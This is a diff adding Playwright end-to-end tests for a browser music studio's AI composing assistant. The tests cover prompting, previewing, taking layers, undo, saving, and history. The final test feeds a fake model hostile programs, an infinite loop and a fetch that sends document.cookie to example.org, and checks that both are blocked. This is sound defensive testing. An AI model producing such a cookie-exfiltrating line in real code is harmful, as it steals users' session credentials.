@@ -1,0 +1,182 @@
+import type { Locator, Page } from '@playwright/test';
+import { ModelProcess } from './model-process.ts';
+import { onsetsOf, peakOf } from './onsets.ts';
+import { Product } from './product.ts';
+import { record } from './recorder.ts';
+import type { StudioPage } from './studio-page.ts';
+import { expect, test } from './test.ts';
+
+/** The assistant as a person finds it. */
+class AssistantSide {
+  readonly side: Locator;
+  readonly proposal: Locator;
+
+  constructor(private readonly page: Page) {
+    this.side = page.getByRole('region', { name: 'Compose with AI' });
+    this.proposal = this.side.getByRole('region', { name: 'Proposal' });
+  }
+
+  async open(): Promise<void> {
+    await this.page.getByRole('button', { name: 'Compose with AI' }).click();
+    await expect(this.side.getByRole('textbox')).toBeFocused();
+  }
+
+  button(name: string): Locator {
+    return this.side.getByRole('button', { name, exact: true });
+  }
+
+  async ask(prompt: string): Promise<void> {
+    await this.side.getByRole('textbox').fill(prompt);
+    await this.side.getByRole('textbox').press('Control+Enter');
+  }
+}
+
+/** The program that the grid shows, and its tempo: with both, the music. */
+async function musicIn(studio: StudioPage) {
+  const code = await studio.page
+    .locator('.ace_editor')
+    .evaluate((node) => (node as unknown as AceNode).env.editor.getValue());
+  return { code, bpm: await studio.bpm.inputValue() };
+}
+
+interface AceNode {
+  env: { editor: { getValue(): string } };
+}
+
+// @spec product.ai entity.ai-history calls.ai-generate calls.ai-keep limit.storage
+test('from an empty project: a prompt, heard, two layers taken, changed in words, saved, and the same after a reload', async ({
+  studio,
+  page,
+}) => {
+  test.setTimeout(120_000);
+  const assistant = new AssistantSide(page);
+  await assistant.open();
+  await assistant.ask('dark techno at 132 BPM with drums, bass and a melody');
+  await expect(assistant.proposal).toBeVisible({ timeout: 20_000 });
+  await expect(assistant.proposal.getByText('120 → 132 BPM')).toBeVisible();
+
+  await assistant.button('Listen').click();
+  const heard = await record(page, 4);
+  expect(peakOf(heard)).toBeGreaterThan(0.05);
+  expect(onsetsOf(heard, 2).length).toBeGreaterThan(3);
+  await expect(studio.grid.locator('[aria-pressed="true"]')).toHaveCount(0);
+
+  for (const box of await assistant.proposal.getByRole('checkbox').all()) {
+    const name = await box.locator('xpath=..').innerText();
+    await box.setChecked(/^(Kick|Bass)\b/.test(name));
+  }
+  await assistant.proposal.getByRole('button', { name: /^Take chosen \(2 of/ }).click();
+  await expect(page.getByText('Layers taken into your project: 2')).toBeVisible();
+  await expect(studio.cell('Kick', 1)).toHaveAttribute('aria-pressed', 'true');
+  const two = await musicIn(studio);
+  expect(two.bpm).toBe('132');
+
+  await expect(assistant.side.getByRole('radio', { name: 'Change what I have' })).toBeChecked();
+  await assistant.ask('add a melody');
+  await expect(assistant.proposal).toBeVisible({ timeout: 20_000 });
+  await expect(assistant.proposal.getByText('added', { exact: true })).toHaveCount(1);
+  await assistant.button('Take all').click();
+  await expect(page.getByText('The music is in your project.')).toBeVisible();
+  const three = await musicIn(studio);
+  expect(three.code.startsWith(two.code.slice(0, 20))).toBe(true);
+  expect(three.code.length).toBeGreaterThan(two.code.length);
+
+  await page.getByRole('button', { name: 'Undo', exact: true }).last().click();
+  await expect.poll(() => musicIn(studio)).toEqual(two);
+  await page.keyboard.press('Control+Shift+z');
+  await expect.poll(() => musicIn(studio)).toEqual(three);
+
+  await studio.save();
+  await page.reload();
+  await studio.ready();
+  await expect.poll(() => musicIn(studio)).toEqual(three);
+  await studio.play();
+  expect(peakOf(await record(page, 3))).toBeGreaterThan(0.05);
+  await studio.stop();
+
+  await assistant.open();
+  await assistant.side.getByRole('tab', { name: 'History' }).click();
+  const kept = assistant.side.getByRole('list', { name: 'All your answers' });
+  await expect(kept.getByRole('heading')).toHaveText([
+    'add a melody',
+    'dark techno at 132 BPM with drums, bass and a melody',
+  ]);
+  await assistant.side.getByRole('searchbox').fill('techno');
+  await expect(kept.getByRole('heading')).toHaveCount(1);
+});
+
+/** A product whose AI is a model that says what a test tells it to. */
+const modelTest = test.extend<object, { model: ModelProcess }>({
+  model: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of a fixture's needs from here
+    async ({}, use) => {
+      const model = await ModelProcess.start();
+      await use(model);
+      model.dispose();
+    },
+    { scope: 'worker' },
+  ],
+  product: [
+    async ({ model }, use) => {
+      const product = await Product.start({
+        ...{ AI_PROVIDER: 'openai', AI_MODEL: 'fake', AI_URL: model.url },
+      });
+      await use(product);
+      await product.dispose();
+    },
+    { scope: 'worker' },
+  ],
+});
+
+modelTest(
+  'a model whose first answer is no Strudel has it repaired, and that is told',
+  async ({ studio, page, model }) => {
+    expect(await studio.grid.count()).toBe(1);
+    model.says('stack(s("bd*4"), s("hh*8")', 'stack(s("bd*4"), s("hh*8"))');
+    const assistant = new AssistantSide(page);
+    await assistant.open();
+    await expect(
+      assistant.side.getByText(/your prompt stays on this studio’s server/),
+    ).toBeVisible();
+    await assistant.ask('a beat');
+    await expect(assistant.proposal).toBeVisible({ timeout: 20_000 });
+    await expect(
+      assistant.proposal.getByText('Repaired once: the first answer did not play.').first(),
+    ).toBeVisible();
+    expect(model.asked).toBe(2);
+    await assistant.button('Listen').click();
+    expect(peakOf(await record(page, 3))).toBeGreaterThan(0.05);
+  },
+);
+
+modelTest(
+  'a hostile answer ends in a sentence, while the music that plays goes on',
+  async ({ studio, page, model }) => {
+    modelTest.setTimeout(120_000);
+    const others: string[] = [];
+    page.on('request', (request) => others.push(request.url()));
+    await studio.click('Snare', [1, 5, 9, 13]);
+    await studio.play();
+    const assistant = new AssistantSide(page);
+    await assistant.open();
+    for (const program of [
+      'while (true) {}',
+      'fetch("https://example.org/?" + document.cookie); s("nothing")',
+    ]) {
+      model.says(program);
+      await assistant.ask('a beat');
+      const recording = record(page, 6);
+      await expect(assistant.side.getByRole('alert')).toContainText(/attempts: 3/, {
+        timeout: 40_000,
+      });
+      await expect(assistant.proposal).toHaveCount(0);
+      await expect(assistant.side.getByRole('textbox')).toHaveValue('a beat');
+      // Four snares a bar at 120 bpm: every half second, none left out.
+      const onsets = onsetsOf(await recording);
+      const gaps = onsets.slice(1).map((onset, index) => onset - (onsets[index] ?? 0));
+      expect(onsets.length).toBeGreaterThan(8);
+      expect(Math.max(...gaps)).toBeLessThan(0.52);
+    }
+    expect(others.filter((url) => url.includes('example.org'))).toEqual([]);
+  },
+);
